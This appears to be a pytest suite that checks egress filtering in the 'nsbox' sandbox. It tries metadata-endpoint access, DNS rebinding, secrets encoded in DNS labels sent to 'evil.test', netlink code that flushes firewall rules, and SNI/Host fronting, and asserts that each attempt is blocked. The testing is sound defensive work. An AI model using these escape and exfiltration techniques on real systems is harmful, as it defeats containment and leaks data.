"""N01-N13 through ``nsbox.run``: each attack on filtered egress is attempted on every path, beside a control.

What must not leave is looked for where it would arrive: ``world.servers.came`` and ``world.zone.asked`` are what the
world saw (tests/host/_world.py).
"""

import json
import shutil
import socket
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest

sys.path.insert(0, str(Path(__file__).parents[1] / "host"))
from _world import DNS, DOT, ECHO, HOST, HTTP, INSIDE, PATHS, ROUTER, TLS, World, in_a_world

import nsbox
from nsbox.errors import HostError, SpecError
from nsbox.resources import gateway_session, netlink, nft

pytest.importorskip("dnslib")
pytest.importorskip("pyroute2")

both = pytest.mark.parametrize("path", PATHS)
METADATA = ("169.254.169.254", "100.100.100.200", "168.63.129.16", "169.254.170.2", "fd00:ec2::254")


@in_a_world
def test_N01_no_policy(world: World) -> None:
    world.name("a.test", "203.0.113.5")
    code = "[get('203.0.113.5'), udp('203.0.113.5', 9000), get('2001:db8::5'), attempt(socket.gethostbyname, 'a.test')]"
    before = time.monotonic()
    assert "200" not in str(world.inside(code, net="none"))
    assert time.monotonic() - before < 10
    assert not world.servers.came
    assert not world.zone.asked
    assert world.inside("get('203.0.113.5')", "203.0.113.5") == "200", "the control"


@both
@in_a_world
def test_N02_an_empty_list_means_none(world: World, path: str) -> None:
    world.name("a.test", "203.0.113.5")
    code = "[get('203.0.113.5'), get('2001:db8::5'), udp('203.0.113.5', 9000), get('127.0.0.1')]"
    before = time.monotonic()
    assert world.inside(code, net_path=path) == ["ECONNREFUSED", "ECONNREFUSED", "EPERM", "ECONNREFUSED"]
    assert world.inside("dns('a.test')", net_path=path) == (3, [])
    assert time.monotonic() - before < 10
    assert not world.servers.came
    assert not world.zone.asked
    assert world.inside("(dns('a.test'), get('a.test'))", "a.test", net_path=path) == ((0, ["203.0.113.5"]), "200")


@both
@in_a_world
def test_N03_names_that_lead_to_special_addresses(world: World, path: str) -> None:
    inner = ("127.0.0.1", "10.9.9.9", "169.254.169.254", "100.64.0.9", HOST, ROUTER, "224.0.0.1", "0.0.0.0")
    world.name("in.test", "203.0.113.5", *inner)
    world.name("six.test", "::1", "fd00:ec2::254", "fe80::1", "::ffff:a09:909", "64:ff9b::a09:909")
    found, reached, others = world.inside(
        f"(dns('in.test'), get('in.test'), [get(x) for x in {inner}])", "in.test", "six.test", net_path=path
    )
    assert (found, reached) == ((0, ["203.0.113.5"]), "200")
    assert set(others) <= {"ECONNREFUSED", "ENETUNREACH", "EACCES", "EPERM"}, others
    assert {row["address"] for row in world.rows(protocol="dns", verdict="denied")} == set(inner)
    code = "attempt(socket.getaddrinfo, 'six.test', 80)"
    assert world.inside(code, "in.test", "six.test", net_path=path) == "gaierror"
    if path == "gateway":
        assert {row["address"] for row in world.rows(protocol="dns")} >= {"::1", "fd00:ec2::254", "fe80::1"}
        assert world.inside("get('2001:db8::5')", "2001:db8::5", net_path=path) == "200", "the control"
        world.servers.came.pop()
    assert world.servers.came == [("tcp", HTTP)]
    # The control: the address is allowed by itself.
    code = "(dns('in.test')[1].count('10.9.9.9'), get('10.9.9.9'))"
    assert world.inside(code, "in.test", "10.9.9.9", net_path=path) == (1, "200")


@both
@in_a_world
def test_N04_metadata_addresses(world: World, path: str) -> None:
    world.name("metadata.test", *(address for address in METADATA if ":" not in address))
    everything = ("0.0.0.0/0", "::/0", "*", "0.0.0.0/0/udp")
    written = (*METADATA, "2852039166", "0xa9fea9fe", "::ffff:169.254.169.254", "64:ff9b::a9fe:a9fe", "metadata.test")
    code = f"[attempt(get, x) for x in {written}] + [udp(x, 53, timeout=.3) for x in {METADATA}]"
    found = world.inside(code, *everything, net_path=path)
    assert "200" not in found
    assert not any(isinstance(item, bytes) for item in found)
    assert world.inside("dns('metadata.test')", *everything, net_path=path) == (0, [])
    assert not world.servers.came
    assert world.inside("get('203.0.113.6')", *everything, net_path=path) == "200", "the control"
    assert world.inside("get('169.254.169.254')", "169.254.169.254", net_path=path) == "200", "allowed by itself"


@both
@in_a_world
def test_N05_rebinding(world: World, path: str) -> None:
    """The resolver says something else each time: what was checked is what is dialled, and nobody asks once more."""
    answers = iter(["203.0.113.5", "10.9.9.9", "169.254.169.254", "127.0.0.1", "203.0.113.6"])
    world.zone.records["re.test."] = lambda: [f"re.test. 0 A {next(answers)}"]
    code = """[
        dns('re.test'), tcp('203.0.113.5', 80, b'GET /1 HTTP/1.1\\r\\nHost: re.test\\r\\n\\r\\n')[-14:],
        dns('re.test'), get('10.9.9.9'), dns('re.test'), get('169.254.169.254'), dns('re.test'), get('127.0.0.1'),
        tcp('203.0.113.5', 80, b'GET /2 HTTP/1.1\\r\\nHost: re.test\\r\\n\\r\\n')[-14:]]"""
    found = world.inside(code, "re.test:80", net_path=path)
    assert found[:2] == [(0, ["203.0.113.5"]), b"GET /1 HTTP/1.1"[-14:]]
    assert found[2:8] == [(0, []), "ECONNREFUSED"] * 3
    assert found[8] == b"GET /2 HTTP/1.1"[-14:]
    assert world.zone.asked == [("re.test.", "A")] * 4
    assert world.servers.came == [("tcp", HTTP)] * 2
    assert {row["address"] for row in world.rows(protocol="dns", verdict="denied")} == {
        "10.9.9.9",
        "169.254.169.254",
        "127.0.0.1",
    }


@both
@in_a_world
def test_N06_data_in_labels(world: World, path: str) -> None:
    world.name("a.test", "203.0.113.5")
    world.name("x.w.test", "203.0.113.6")
    smuggled = ("c2vjcmv0.evil.test", "secret.a.test", "a.test.evil.test", "xa.test", "w.test")
    log = world.folder / "log"
    code = f"[dns(x, stream=s) for x in {smuggled} for s in (False, True)] + [dns(x, kind=16) for x in {smuggled}]"
    found = world.inside(code, "a.test", "*.w.test", net_path=path, log=str(log))
    assert found == [(3, [])] * 3 * len(smuggled)
    assert not world.zone.asked, "nothing has left"
    assert {row["host"]: row["connections"] for row in world.rows(verdict="denied")} == dict.fromkeys(smuggled, 3)
    events = [json.loads(line) for line in log.read_text().splitlines()]
    denied = [event["name"] for event in events if event["event"] == "dns.query" and event["verdict"] == "denied"]
    assert sorted(denied) == sorted(smuggled * 3)
    code = "[dns(x, stream=s) for x in ('a.test', 'x.w.test', 'A.TEST') for s in (False, True)]"
    found = world.inside(code, "a.test", "*.w.test", net_path=path)
    assert [row[1] for row in found] == [["203.0.113.5"]] * 2 + [["203.0.113.6"]] * 2 + [["203.0.113.5"]] * 2
    assert {name for name, _ in world.zone.asked} == {"a.test.", "x.w.test."}, "the control"


@both
@in_a_world
def test_N07_another_resolver(world: World, path: str) -> None:
    """A resolver elsewhere, in UDP, TCP, TLS (853) and HTTPS (443), is a destination like any other."""
    world.name("a.test", "203.0.113.5")
    other = "203.0.113.6"
    code = f"""[udp('{other}', {DNS}), udp('{other}', {DNS}, connect=True), tcp('{other}', {DNS}, b'x'),
        tcp('{other}', {DOT}, b'x'), tcp('{other}', {TLS}, b'x'), udp('{other}', {TLS}), udp('{ROUTER}', 53),
        dns('a.test', server='{other}'), dns('a.test', server='{other}', stream=True)]"""
    found = world.inside(code, "a.test", net_path=path)
    assert set(found) <= {"ECONNREFUSED", "EPERM"}, found
    assert not world.servers.came
    allow = (f"{other}:{DNS}/udp", f"{other}:{DNS}", f"{other}:{DOT}")
    code = f"[udp('{other}', {DNS}), tcp('{other}', {DNS}, b'x'), tcp('{other}', {DOT}, b'x')]"
    assert world.inside(code, *allow, net_path=path) == [b"re:x", b"x", b"x"], "the control"


@both
@in_a_world
def test_N08_the_host_and_the_other_sandboxes(world: World, path: str) -> None:
    came = []
    with socket.create_server(("", 0), family=socket.AF_INET6, dualstack_ipv6=True) as local:
        port = local.getsockname()[1]
        for address in ("127.0.0.1", HOST):
            socket.create_connection((address, port)).close()
            came.append(local.accept()[0].close())
        local.setblocking(False)
        everything = ("0.0.0.0/0", "::/0", "0.0.0.0/0/udp")
        server = (
            "import socket; s = socket.create_server(('0.0.0.0', 8123)); u = socket.socket(2, 2);"
            "u.connect(('203.0.113.5', 9)); print(u.getsockname()[0], flush=True)\nwhile 1: s.accept()[0].send(b'in')"
        )
        with nsbox.Sandbox(net="filtered", allow=everything, net_path=path) as box:
            process = box.popen(["python3", "-c", server])
            neighbour = next(data.decode().strip() for _, data in process.output())
            assert box.run(["python3", "-c", f"{INSIDE}\nprint(tcp('{neighbour}', 8123))"]).stdout == b"b'in'\n"
            code = f"""(lambda routes: [tcp(x, {port}, timeout=1) for x in
                ('127.0.0.1', '127.0.0.53', '{HOST}', '{ROUTER}', '::1', '2001:db8:1::1', '::ffff:{HOST}', *routes)]
                + [tcp('{neighbour}', 8123, timeout=1)])(
                [socket.inet_ntoa(bytes.fromhex(row.split()[2])[::-1])
                 for row in open('/proc/net/route') if '\\t00000000\\t' in row])"""
            found = world.inside(code, *everything, net_path=path)
        assert set(found) <= {"ECONNREFUSED", "ENETUNREACH", "TimeoutError"}, found
        assert len(found) >= 8
        with pytest.raises(BlockingIOError):
            local.accept()
    assert world.inside("get('203.0.113.6')", *everything, net_path=path) == "200", "the control"


@both
@in_a_world
def test_N09_abstract_sockets(world: World, path: str) -> None:
    with socket.socket(socket.AF_UNIX) as server:
        server.bind("\0nsbox-egress-test")
        server.listen()
        with socket.socket(socket.AF_UNIX) as client:
            client.connect("\0nsbox-egress-test")  # the control
        code = "attempt(socket.socket(socket.AF_UNIX).connect, chr(0) + 'nsbox-egress-test')"
        assert world.inside(code, "203.0.113.5", net_path=path) == "ECONNREFUSED"


MANY = r"""
import ctypes
libc = ctypes.CDLL(None, use_errno=True)

class Vec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_char_p), ("len", ctypes.c_size_t)]

class Msg(ctypes.Structure):
    _fields_ = [("name", ctypes.c_char_p), ("namelen", ctypes.c_uint32), ("iov", ctypes.POINTER(Vec)),
                ("iovlen", ctypes.c_size_t), ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t),
                ("flags", ctypes.c_int), ("pad", ctypes.c_int), ("len", ctypes.c_size_t)]

def sendmmsg(*targets):
    "One call, one datagram for each target; how many were sent, or the error."
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    rows = (Msg * len(targets))()
    keep = []
    for row, (host, port) in zip(rows, targets):
        name = struct.pack("=H", 2) + struct.pack("!H", port) + socket.inet_aton(host) + bytes(8)
        vec = Vec(b"many", 4); keep += [name, vec]
        row.name, row.namelen, row.iov, row.iovlen = name, 16, ctypes.pointer(vec), 1
    sent = libc.sendmmsg(s.fileno(), rows, len(targets), 0)
    return sent if sent >= 0 else errno.errorcode[ctypes.get_errno()]

def fast_open(host, port):
    s = socket.socket()
    return s.sendto(b"x", socket.MSG_FASTOPEN, (host, port)) and s.recv(9)

def multipath(host, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262); s.settimeout(2)
    s.connect((host, port)); s.send(b"x"); return s.recv(9)

def turned(host, port, host2, port2):
    "Connected to what is allowed, sent elsewhere."
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect((host, port)); return s.sendto(b"x", (host2, port2))
"""


@both
@in_a_world
def test_N10_other_protocols(world: World, path: str) -> None:
    """Only IPv4 TCP to one port is allowed: nothing else leaves, with or without connect(2)."""
    raw, ping, sctp = (
        "(2, 3, 1), (2, 3, 255), (2, 3, 17), (17, 3, 0), (10, 3, 255)",
        "(2, 2, 1), (10, 2, 58)",
        "(2, 1, 132)",
    )
    sockets = f"({raw}, {ping}, {sctp}, (2, 5, 132))"
    code = f"""dict(
        kinds=[attempt(lambda k=k: socket.socket(*k) and 'made') for k in {sockets}],
        udp=[udp('203.0.113.5', p, connect=c) for p in (80, {ECHO}, {TLS}, {DNS}) for c in (False, True)],
        many=sendmmsg(('203.0.113.5', {ECHO}), ('203.0.113.6', {ECHO})),
        turned=attempt(turned, '203.0.113.5', 80, '203.0.113.6', {ECHO}),
        tcp=[get(h, p) for h, p in (('203.0.113.5', {ECHO}), ('203.0.113.6', 80), ('::ffff:203.0.113.6', 80))],
        fast=attempt(fast_open, '203.0.113.6', {ECHO}), multi=attempt(multipath, '203.0.113.6', {ECHO}),
        six=[get('2001:db8::5'), get('2001:db8::5', {ECHO}), udp('2001:db8::5', {ECHO}), udp('ff02::1', {ECHO})])"""
    program = f"{INSIDE}{MANY}\nprint(repr({code}))"
    result = world.run(["python3", "-c", program], "203.0.113.5:80", net_path=path)
    assert result.ok, result.stderr_text
    found = eval(result.stdout_text)
    assert "made" not in found["kinds"], found["kinds"]
    assert set(found["udp"]) <= {"EPERM", "ECONNREFUSED"}, found["udp"]
    assert found["many"] == "EPERM"
    assert found["turned"] == "EPERM"
    assert set(found["tcp"]) == {"ECONNREFUSED"}
    assert isinstance(found["fast"], str), found["fast"]
    assert isinstance(found["multi"], str), found["multi"]
    assert all(isinstance(item, str) and item != "200" for item in found["six"]), found["six"]
    assert not world.servers.came
    twice = f"sendmmsg(('203.0.113.5', {ECHO}), ('203.0.113.6', {ECHO}))"
    code = f"get('203.0.113.5'), {twice}, attempt(fast_open, '203.0.113.5', {ECHO})"
    allow = ("203.0.113.5", f"203.0.113.0/24:{ECHO}/udp")
    program = f"{INSIDE}{MANY}\nprint(repr(({code})))\ntime.sleep(0.3)"
    assert eval(world.run(["python3", "-c", program], *allow, net_path=path).stdout_text) == ("200", 2, b"x")
    assert sorted(world.servers.came) == [("tcp", HTTP), ("tcp", ECHO), ("udp", ECHO), ("udp", ECHO)], "the control"


@in_a_world
def test_N10_udp_443_by_name(world: World) -> None:
    """QUIC hides its names: refused where the rule is a name, so that clients take TCP."""
    world.name("a.test", "203.0.113.5")
    code = f"dns('a.test') and [udp('203.0.113.5', {TLS}), udp('203.0.113.5', {ECHO})]"
    found = world.inside(code, "a.test/udp", net_path="gateway")
    assert found[0] in ("EPERM", "ECONNREFUSED", "TimeoutError")
    assert found[1] == b"re:x", "the control"
    assert world.servers.came == [("udp", ECHO)]


TAMPER = r"""
import ctypes, fcntl, socket, struct, sys, os, errno
words = dict(item.split("=") for item in sys.argv[1:])

def send(family, data, flags=0):
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, family) as s:
        s.settimeout(2)
        s.send(bytes.fromhex(data))
        while True:
            answer = s.recv(65536)
            at = 0
            while at + 16 <= len(answer):
                length, kind, _, seq, _ = struct.unpack_from("=IHHII", answer, at)
                if kind == 2:
                    code = -struct.unpack_from("=i", answer, at + 16)[0]
                    if code: raise OSError(code, "refused")
                    if seq == 0x7FFFFFFF: return
                elif kind != 3 and family == 12: return   # a listing
                at += max(16, length)

def down():
    with socket.socket() as s:
        fcntl.ioctl(s, 0x8914, b"lo".ljust(16, b"\0") + struct.pack("=H14x", 0))

def write(path, text):
    with open(path, "w") as f: f.write(text)

def call(number, *args):
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.syscall(number, *args) < 0: raise OSError(ctypes.get_errno(), "refused")

acts = {
    "list": lambda: send(12, words["list"]), "flush": lambda: send(12, words["flush"]),
    "delete": lambda: send(12, words["delete"]), "route": lambda: send(0, words["route"]),
    "address": lambda: send(0, words["address"]), "link": lambda: send(0, words["link"]), "down": down,
    "sysctl": lambda: write("/proc/sys/net/ipv4/conf/lo/forwarding", "1"),
    "transparent": lambda: socket.socket().setsockopt(0, 19, 1),
    "mark": lambda: socket.socket().setsockopt(1, 36, 1),
    "device": lambda: socket.socket().setsockopt(1, 25, b"lo\0"),
    "namespace": lambda: call(272, 0x40000000),
}
if "make" in words: send(12, words["make"])
for name in words["acts"].split(","):
    try: acts[name](); print(name, "done")
    except OSError as e: print(name, errno.errorcode.get(e.errno, type(e).__name__))
"""


def tampering() -> dict[str, str]:
    """Netlink messages that list, flush and delete the rules, and change routes, addresses and links."""
    table = nft.Table("nsbox")
    batches = {
        "make": [table.create(), table.chain("rules")],
        "flush": [table.flush("rules")],
        "delete": [nft.Message(10 << 8 | 2, 0, table.create().body)],
    }
    found = {name: nft.batch(parts).hex() for name, parts in batches.items()}
    get_tables, dump = 10 << 8 | 1, 0x300
    found["list"] = netlink.message(get_tables, dump, 1, bytes((1, 0, 0, 0))).hex()
    from nsbox.resources.netplan import add_address, link_up, local_default

    for name, part in (
        ("address", add_address(1, "203.0.113.9", 32)),
        ("route", local_default("127.0.0.1")),
        ("link", link_up(1)),
    ):
        found[name] = netlink.numbered([part]).hex()
    return found


@both
@in_a_world
def test_N11_rules_routes_and_links(world: World, path: str) -> None:
    messages = tampering()
    acts = "list,flush,delete,link,address,route,down,sysctl,transparent,mark,device,namespace"
    words = [f"{name}={data}" for name, data in messages.items() if name != "make"] + [f"acts={acts}"]
    check = f"\n{INSIDE}\nprint('then', get('203.0.113.5'), get('203.0.113.6'), get('10.9.9.9'))"
    result = world.run(["python3", "-c", TAMPER + check, *words], "203.0.113.5", net_path=path)
    assert result.ok, result.stderr_text
    outcomes = dict(line.split(" ", 1) for line in result.stdout_text.splitlines())
    assert outcomes.pop("then") == "200 ECONNREFUSED ECONNREFUSED"
    # SO_BINDTODEVICE is for everybody where nothing is bound yet; with lo it leads nowhere but to where all goes.
    assert outcomes.pop("device") in ("done", "EPERM")
    assert set(outcomes) == set(acts.split(",")) - {"device"}
    assert set(outcomes.values()) <= {"EPERM", "EACCES", "EROFS", "ENOENT", "EAFNOSUPPORT"}, outcomes


@pytest.mark.skipif(not shutil.which("unshare"), reason="unshare is not installed")
def test_N11_the_control() -> None:
    """The owner of a network namespace can do all of it."""
    messages = tampering()
    acts = "link,list,flush,address,route,delete,transparent,mark,down,sysctl"
    words = [f"{name}={data}" for name, data in messages.items()] + [f"acts={acts}"]
    made = subprocess.run(
        ["unshare", "-rn", sys.executable, "-c", TAMPER, *words], capture_output=True, text=True, timeout=30
    )
    if "unshare" in made.stderr:
        pytest.skip(made.stderr)
    assert made.stdout.split() == [word for name in acts.split(",") for word in (name, "done")], made.stderr


@both
@in_a_world
def test_N12_a_change_that_fails(world: World, path: str) -> None:
    """Whatever fails while the policy changes, the former one holds, inside and outside."""

    def refused(*_: Any) -> None:
        raise OSError(12, "Cannot allocate memory")

    with nsbox.Sandbox(net="filtered", allow=["203.0.113.5"], net_path=path) as box:

        def reached() -> str:
            code = f"{INSIDE}\nprint(get('203.0.113.5'), get('203.0.113.6'), get('10.9.9.9'))"
            return box.run(["python3", "-c", code]).stdout_text.strip()

        former = "200 ECONNREFUSED ECONNREFUSED"
        assert reached() == former
        real = gateway_session.netlink.exchange
        gateway_session.netlink.exchange = refused
        for change in (lambda: box.allow("203.0.113.6"), lambda: box.deny("203.0.113.5")):
            with pytest.raises(HostError, match="former"):
                change()
        gateway_session.netlink.exchange = real
        assert reached() == former
        for bad in ("203.0.113.6:99999", "http://a.test", ""):
            with pytest.raises(SpecError):
                box.allow("203.0.113.6", bad)
        with pytest.raises(SpecError, match="too many"):
            box.allow("203.0.113.6", *(f"203.0.{n >> 8}.{n & 255}:{n + 1}" for n in range(3000)))
        assert reached() == former
        box.allow("203.0.113.6")
        assert reached() == "200 200 ECONNREFUSED", "the control"
        box.deny("203.0.113.5", "203.0.113.6")
        assert reached() == "ECONNREFUSED ECONNREFUSED ECONNREFUSED"


@both
@in_a_world
def test_N12_never_open_in_between(world: World, path: str) -> None:
    """One destination is refused by every one of many policies that follow each other: it is never reached."""
    hammer = f"""{INSIDE}
count = 0
end = time.monotonic() + 2
while time.monotonic() < end:
    s = socket.socket(); s.setblocking(False)
    code = s.connect_ex(('203.0.113.6', {ECHO})); count += 1
    if code not in (111, 115): print('error', code)
    try: s.send(b'x'); print('sent')
    except OSError: pass
    if udp('203.0.113.6', {ECHO}, timeout=0) != 'EPERM': print('datagram')
print('tried', count)
"""
    with nsbox.Sandbox(net="filtered", allow=["203.0.113.5"], net_path=path) as box:
        process = box.popen(["python3", "-c", hammer])
        changes = 0
        end = time.monotonic() + 2
        while time.monotonic() < end:
            box.deny("203.0.113.5")
            box.allow("203.0.113.5", f"203.0.113.7:{changes % 9 + 1}")
            changes += 2
        result = process.wait()
    assert result.stdout_text.startswith("tried"), result.stdout_text
    assert int(result.stdout_text.split()[1]) > 100
    assert changes > 100
    assert not world.servers.came


HELLO = """
import ssl
context = ssl.create_default_context(cafile='/ca.pem')
def tls(name, check=True, host=None):
    c = ssl.create_default_context(cafile='/ca.pem')
    if not check: c.check_hostname = False; c.verify_mode = ssl.CERT_NONE
    try:
        with c.wrap_socket(socket.create_connection(('203.0.113.5', 443), 5), server_hostname=name) as s:
            s.sendall(b'GET / HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n' % (host or name or 'x').encode())
            return s.recv(12)[9:].decode()
    except OSError as error: return word(error)
def http(host):
    got = tcp('203.0.113.5', 80, b'GET / HTTP/1.1\\r\\n%s\\r\\n' % host)
    return got if isinstance(got, str) else got[9:12].decode()
"""


@in_a_world
def test_N13_fronting(world: World) -> None:
    """The stream must name the host that the rule names: SNI, Host; without one, another one, or two: refused."""
    for name in ("a.test", "b.test"):
        world.name(name, "203.0.113.5")
    if world.certificate is None:
        return
    code = f"""{INSIDE}{HELLO}
dns('a.test')
print([tls('a.test'), tls('b.test', False), tls(None, False), tls('203.0.113.5', False), tls('xa.test', False)])
print([http(h) for h in (b'Host: a.test\\r\\n', b'HOST: A.TEST:80\\r\\n', b'Host: b.test\\r\\n', b'',
       b'Host: a.test\\r\\nHost: b.test\\r\\n', b'Host : b.test\\r\\n', b'Host: b.test\\r\\nX: Host: a.test\\r\\n')])
"""
    result = world.run(["python3", "-c", code], "a.test", ro=[(world.authority, "/ca.pem")])
    assert result.enforced["egress"]["how"].split()[0].startswith("gateway"), "names take the gateway, for root as well"
    assert result.ok, result.stderr_text
    secure, plain = map(eval, result.stdout_text.splitlines())
    assert secure[0] == "200", "the control"
    assert set(secure[1:]) == {"ECONNRESET"}, secure
    assert plain[:2] == ["200", "200"], "the control"
    assert set(plain[2:]) <= {"ECONNRESET", ""}, plain
    assert {row["host"] for row in world.rows(verdict="denied", protocol="tcp", port=TLS)} >= {"b.test", "xa.test"}


@pytest.mark.root
@in_a_world
def test_N13_what_the_packet_path_leaves_open(world: World) -> None:
    """docs/egress.md says so: packets are let through by address, whatever the stream in them names."""
    world.name("a.test", "203.0.113.5")
    code = f"{INSIDE}{HELLO}\ndns('a.test'); print(http(b'Host: b.test\\r\\n'))"
    result = world.run(["python3", "-c", code], "a.test", net_path="veth", ro=[(world.authority, "/ca.pem")])
    assert result.stdout_text == "200\n"


@both
@in_a_world
def test_dns_over_tcp(world: World, path: str) -> None:
    """The sandbox's own resolver says the same over TCP; a stream of many queries, one by one, is no way around."""
    world.name("a.test", "203.0.113.5", "10.9.9.9")
    code = "[dns(n, kind=k, stream=s) for n in ('a.test', 'b.test') for k in (1, 28, 255, 16) for s in (False, True)]"
    found = world.inside(code, "a.test", net_path=path)
    assert found[0::2] == found[1::2]
    assert found[0] == (0, ["203.0.113.5"])
    assert {row[1].count("10.9.9.9") for row in found} == {0}
    assert {row[0] for row in found[8:]} == {3}
    assert {name for name, _ in world.zone.asked} == {"a.test."}
